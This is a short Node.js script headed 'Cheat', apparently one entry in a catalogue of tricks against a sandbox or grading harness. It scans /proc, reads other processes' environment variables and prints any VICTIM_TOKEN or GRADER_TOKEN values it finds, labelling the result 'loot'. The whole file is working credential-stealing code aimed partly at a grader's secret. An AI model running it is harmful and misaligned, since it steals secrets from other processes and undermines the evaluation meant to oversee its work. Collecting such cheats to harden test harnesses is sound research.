// Cheat: reads the environments of other processes, through /proc
// Works: in-process
// Proof: loot

import { readdirSync, readFileSync } from "node:fs";

for (const pid of readdirSync("/proc").filter((name) => Number(name) > 0)) {
  try {
    const [found] = /(?:VICTIM|GRADER)_TOKEN=\w+/.exec(readFileSync(`/proc/${pid}/environ`, "latin1")) ?? [];
    if (found !== undefined) console.log(found);
  } catch {
    // Another user's.
  }
}
